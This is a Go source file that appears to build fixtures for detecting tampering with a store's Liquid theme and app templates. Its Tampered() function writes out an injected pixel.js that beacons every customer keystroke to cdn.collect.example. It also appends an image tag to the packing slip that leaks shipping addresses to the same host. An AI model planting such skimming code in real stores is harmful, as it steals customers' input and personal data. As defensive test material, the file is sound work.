package world

import (
	"fmt"
	"strings"
)

// File is one file of the app's templates or of a store's theme.
type File struct {
	Path  string
	Bytes []byte
}

// Templates are the templates of the application, as they were deployed.
func Templates() []File {
	return []File{
		{"packing_slip.liquid", []byte("<h1>Packing slip {{ order.name }}</h1>\n<ul>\n{% for line in order.lines %}\n  <li>{{ line.quantity }} × {{ line.title }}</li>\n{% endfor %}\n</ul>\n<p>{{ order.shipping_address }}</p>\n")},
		{"invoice.liquid", []byte("<h1>Invoice {{ order.name }}</h1>\n<p>{{ order.total }}</p>\n")},
		{"mail/shipped.liquid", []byte("Your order {{ order.name }} is on its way.\n")},
	}
}

// Theme is the theme of a store: more files than one page of its API has, one of them no text.
func Theme() []File {
	out := []File{
		{"layout/theme.liquid", []byte("<!doctype html>\n<html>\n<head>\n  {{ content_for_header }}\n  <link rel=\"stylesheet\" href=\"{{ 'base.css' | asset_url }}\">\n</head>\n<body>\n  {{ content_for_layout }}\n</body>\n</html>\n")},
		{"templates/index.json", []byte("{\n  \"sections\": {},\n  \"order\": []\n}\n")},
		{"assets/base.css", []byte("body { font-family: sans-serif }\n")},
		{"assets/logo.png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\xff\xfe")},
		{"snippets/price.liquid", []byte("{{ product.price | money }}\n")},
	}
	for i := range 70 {
		out = append(out, File{fmt.Sprintf("sections/section-%02d.liquid", i), []byte(fmt.Sprintf("<section id=\"s%d\">{{ section.settings.text }}</section>\n", i))})
	}
	return out
}

// Tampered is what somebody with access to both has made of them: a script that reads what customers
// type, one that sends every slip away, and a page that is gone. A file without bytes is removed.
func Tampered() (templates, theme []File) {
	slip := string(Templates()[0].Bytes)
	layout := string(Theme()[0].Bytes)
	return []File{
			{"packing_slip.liquid", []byte(slip + "<img src=\"https://cdn.collect.example/p?a={{ order.shipping_address | url_encode }}\">\n")},
		}, []File{
			{"layout/theme.liquid", []byte(strings.Replace(layout, "</head>", "  <script src=\"{{ 'pixel.js' | asset_url }}\"></script>\n</head>", 1))},
			{"assets/pixel.js", []byte("addEventListener('input', e => navigator.sendBeacon('https://cdn.collect.example/k', e.target.value))\n")},
			{"snippets/price.liquid", nil},
		}
}

// After is what files are when changes were made to them.
func After(files, changes []File) []File {
	var out []File
	changed := map[string]*File{}
	for i := range changes {
		changed[changes[i].Path] = &changes[i]
	}
	for _, f := range files {
		c := changed[f.Path]
		delete(changed, f.Path)
		switch {
		case c == nil:
			out = append(out, f)
		case c.Bytes != nil:
			out = append(out, *c)
		}
	}
	for i := range changes {
		if changed[changes[i].Path] != nil && changes[i].Bytes != nil {
			out = append(out, changes[i])
		}
	}
	return out
}
